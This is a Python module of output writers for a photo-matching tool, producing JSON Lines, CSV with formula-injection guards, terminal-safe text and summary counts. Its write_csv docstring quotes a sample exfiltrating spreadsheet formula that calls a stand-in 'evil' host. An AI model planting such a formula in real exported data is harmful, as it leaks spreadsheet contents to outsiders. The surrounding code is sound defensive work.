"""Turn :class:`~matcher.results.QueryResult` streams into things people read or keep.

* :func:`write_jsonl` - JSON Lines, one object per query photo (machine-readable contract);
* :func:`write_csv` - one row per match, for spreadsheets (formula-injection guarded);
* :func:`summarise` - the counts the CLI prints at the end.

The terminal's records are :mod:`matcher.report.table`'s, the HTML report :mod:`matcher.report.html`'s; every
one of them says each match's evidence in the words of :mod:`matcher.evidence`.

Dataset metadata (titles, owners, URLs, licences...) is scraped from the web and is
untrusted: every writer here escapes it for its medium (HTML escaping, CSV formula
guard, terminal control characters and rich markup neutralised).
"""

from __future__ import annotations

import csv
import json
import unicodedata
from collections import Counter
from pathlib import Path
from typing import IO, Any, Iterable


from matcher.evidence import describe
from matcher.results import Match, QueryResult

__all__ = [
    "JSONL_FIELDS",
    "JSONL_MATCH_FIELDS",
    "CSV_COLUMNS",
    "write_jsonl",
    "write_csv",
    "csv_row",
    "IDENTITY_QUERY",
    "summarise",
    "dataset_counts",
    "by_dataset",
    "plural",
    "visible",
]

# --------------------------------------------------------------------------- JSON Lines

#: Keys of each JSON Lines object, in order. This is a stable contract: one object per
#: query photo, exactly ``QueryResult.to_json()``:
#:
#: ``query``   the photo's path as given on the command line (str);
#: ``hash``    its perceptual hash as hex (str), or null if it could not be read;
#: ``matches`` list of match objects (keys in :data:`JSONL_MATCH_FIELDS`, plus ``extra``
#:             and ``evidence`` objects when non-empty, and ``found_by`` when the search
#:             says how each match was found), possibly empty;
#: ``error``   null, or a short human reason why the photo could not be checked.
#:
#: A search given a Flickr identity (``--flickr-user``/``--nsid``) ends with one more object whose
#: ``query`` and ``hash`` are null: its ``matches`` are the items listed under that identity that no
#: photo matched (``found_by`` "identity", ``distance`` null, the identity and the item's status in
#: ``evidence``). The photos' matches then say ``found_by`` "content" or "both".
JSONL_FIELDS = ("query", "hash", "matches", "error")

#: Keys of each object in ``matches`` (``Match.to_json()``); ``distance`` is the Hamming
#: distance between the two hashes, ``hash`` is the dataset item's hash; ``how`` and ``sure`` say the
#: evidence in words (:mod:`matcher.evidence`: "mirrored, cropped (about 20% removed)", "very sure").
JSONL_MATCH_FIELDS = (
    "dataset", "key", "url", "page_url", "path", "owner", "license", "title",
    "width", "height", "hash", "distance", "id", "how", "sure",
)

# Characters that str.splitlines() (and some JSON Lines readers) treat as line breaks but
# json.dumps(ensure_ascii=False) leaves raw inside strings. Escaping them keeps exactly
# one record per physical line and decodes to the same value.
_JSONL_LINE_BREAKS = {"\u2028": "\\u2028", "\u2029": "\\u2029", "\x85": "\\u0085"}


def _json_default(obj: Any) -> Any:
    """Last resort for values json cannot encode (numpy scalars in evidence, paths...)."""
    item = getattr(obj, "item", None)  # numpy scalar
    if callable(item) and getattr(obj, "shape", None) == ():
        return item()
    tolist = getattr(obj, "tolist", None)  # numpy array
    if callable(tolist):
        return tolist()
    if isinstance(obj, (set, frozenset)):
        return sorted(obj, key=str)
    if isinstance(obj, (bytes, bytearray, memoryview)):
        return bytes(obj).hex()
    return str(obj)


def _dumps(obj: Any, **kw: Any) -> str:
    return json.dumps(obj, ensure_ascii=False, default=_json_default, **kw)


def write_jsonl(results: Iterable[QueryResult], fp: IO[str]) -> None:
    """Write one JSON object per query photo per line (see :data:`JSONL_FIELDS`).

    Each line is ``json.dumps(result.to_json(), ensure_ascii=False)`` (U+2028, U+2029 and
    U+0085 are written as ``\\u`` escapes so no record spans two lines). ``fp`` is flushed
    after every line, so a consumer sees each result as soon as it is known.
    """
    for r in results:
        line = _dumps(r.to_json())
        for raw, esc in _JSONL_LINE_BREAKS.items():
            if raw in line:
                line = line.replace(raw, esc)
        fp.write(line + "\n")
        fp.flush()


# --------------------------------------------------------------------------- CSV

#: Columns of :func:`write_csv`, in order: the one CSV layout, also the web page's export (the server hands the
#: page this list). One row per match; ``error`` is filled (and the match columns empty) on the single row
#: written for a photo that could not be checked. ``how`` and ``sure`` are the evidence in words
#: (:mod:`matcher.evidence`); ``variant`` and ``entry`` the technical evidence they are made from.
CSV_COLUMNS = (
    "query", "query_hash", "dataset", "key", "how", "sure", "distance", "score", "found_by", "url", "page_url", "path",
    "owner", "license", "title", "width", "height", "item_hash", "variant", "entry", "error",
)

#: What stands for the query of the items found by Flickr identity only (CSV, table).
IDENTITY_QUERY = "(identity)"

_FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def _csv_cell(value: Any) -> Any:
    """None -> ''; text starting like a spreadsheet formula gets a leading apostrophe."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value).lower()
    if isinstance(value, (int, float)):
        return value
    if not isinstance(value, str):
        value = str(value)
    if value.startswith(_FORMULA_PREFIXES):
        return "'" + value
    return value


def csv_row(query: str | None, query_hash: str | None, m: Match) -> dict[str, Any]:
    """One match as a CSV row, by column name (:data:`CSV_COLUMNS`)."""
    it, ev = m.item, m.evidence
    words = describe({**ev, "found_by": m.found_by})
    return {"query": query if query is not None else IDENTITY_QUERY, "query_hash": query_hash, "dataset": it.dataset,
            "key": it.key, "how": words["how"], "sure": words["sure"], "distance": m.distance,
            "score": ev.get("score"), "found_by": m.found_by, "url": it.url, "page_url": it.page_url, "path": it.path,
            "owner": it.owner, "license": it.license, "title": it.title, "width": it.width, "height": it.height,
            "item_hash": it.hash, "variant": ev.get("variant"), "entry": ev.get("entry"),
            "error": it.error if it.status != "ok" else None}


def write_csv(results: Iterable[QueryResult], fp: IO[str]) -> None:
    """Write a header (:data:`CSV_COLUMNS`) then one row per match.

    A photo without matches writes no row; a photo that could not be checked writes one
    row with ``query``, ``query_hash`` and ``error`` filled. ``found_by`` says how a match was
    found (content, identity, both; empty when the search did not say); the items found by Flickr
    identity only have ``query`` "(identity)" and no distance.

    Formula injection: dataset metadata is untrusted, and a cell such as
    ``=HYPERLINK("http://evil/?"&A1)`` would run as a formula when the CSV is opened in a
    spreadsheet. Every text cell that starts with ``=``, ``+``, ``-``, ``@``, tab or
    carriage return is therefore written with a leading apostrophe (``'=HYPERLINK...``),
    which spreadsheets show as text. Numbers (distance, width, height) are written as is.
    Strip a leading ``'`` from such cells if you read the CSV back programmatically, or
    use :func:`write_jsonl`, which is not altered.

    Open files with ``newline=""`` (the csv module writes ``\\r\\n`` line ends). ``fp`` is
    flushed after each photo's rows.
    """
    w = csv.writer(fp)
    w.writerow(CSV_COLUMNS)
    fp.flush()
    for r in results:
        for m in r.matches:
            row = csv_row(r.query, r.hash, m)
            w.writerow([_csv_cell(row[c]) for c in CSV_COLUMNS])
        if r.error is not None:
            row = dict.fromkeys(CSV_COLUMNS)
            row.update(query=r.query, query_hash=r.hash, error=r.error)
            w.writerow([_csv_cell(row[c]) for c in CSV_COLUMNS])
        if r.matches or r.error is not None:
            fp.flush()


# --------------------------------------------------------------------------- terminal

# Bidirectional embedding/override/isolate controls: they can make text display in a
# different order than it is stored (e.g. disguise a file name or URL).
_BIDI_CONTROLS = frozenset("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


def visible(s: Any) -> str:
    """Text safe to print on a terminal: control characters shown as escapes."""
    if s is None:
        return ""
    s = str(s)
    if s.isprintable():
        return s
    out = []
    for ch in s:
        if ch == " " or (unicodedata.category(ch) not in ("Cc", "Cs") and ch not in _BIDI_CONTROLS
                         and ch not in "\u2028\u2029"):
            out.append(ch)
        else:
            o = ord(ch)
            out.append(f"\\x{o:02x}" if o < 0x100 else f"\\u{o:04x}")
    return "".join(out)


def _name(query: str) -> str:
    return Path(query).name or query


def _sorted_matches(matches: list[Match]) -> list[Match]:
    # stable: ties keep engine order; items found by identity only (no distance) last
    return sorted(matches, key=lambda m: (m.distance is None, m.distance or 0))


def by_dataset(matches: list[Match]) -> list[tuple[str, list[Match]]]:
    """A photo's matches grouped by dataset: the dataset with the nearest match first (then by name),
    nearest first within each."""
    groups: dict[str, list[Match]] = {}
    for m in _sorted_matches(matches):
        groups.setdefault(m.item.dataset, []).append(m)
    return sorted(groups.items(), key=lambda g: (g[1][0].distance is None, g[1][0].distance or 0, g[0]))


def dataset_counts(results: Iterable[QueryResult]) -> dict[str, dict[str, int]]:
    """``{dataset: {"matches": n, "photos": photos with at least one match in it}}``, most matches first."""
    out: dict[str, dict[str, int]] = {}
    for r in results:
        seen = set()
        for m in r.matches:
            d = out.setdefault(m.item.dataset, {"matches": 0, "photos": 0})
            d["matches"] += 1
            if m.item.dataset not in seen:
                seen.add(m.item.dataset)
                d["photos"] += 1
    return dict(sorted(out.items(), key=lambda kv: (-kv[1]["matches"], kv[0])))


def plural(n: int, word: str, words: str | None = None) -> str:
    """``1 photo``, ``2 photos``; ``words`` for an irregular plural (``copies``); ``match`` -> ``matches``."""
    if n == 1:
        return f"1 {word}"
    return f"{n:,} {words or (word + 'es' if word.endswith(('ch', 'sh', 's', 'x')) else word + 's')}"


# --------------------------------------------------------------------------- summary

def summarise(results: Iterable[QueryResult]) -> dict[str, Any]:
    """Counts for the CLI: ``{"photos", "with_matches", "matches", "errors", "by_dataset"}``.

    ``by_dataset`` maps each dataset name to its number of matches, most first. The items found
    by Flickr identity only (a result whose ``query`` is None) are not a photo: not counted.
    """
    photos = with_matches = matches = errors = 0
    by_dataset: Counter[str] = Counter()
    for r in results:
        if r.query is None:
            continue
        photos += 1
        if r.matches:
            with_matches += 1
            matches += len(r.matches)
            by_dataset.update(m.item.dataset for m in r.matches)
        if r.error is not None:
            errors += 1
    return {
        "photos": photos,
        "with_matches": with_matches,
        "matches": matches,
        "errors": errors,
        "by_dataset": dict(sorted(by_dataset.items(), key=lambda kv: (-kv[1], kv[0]))),
    }
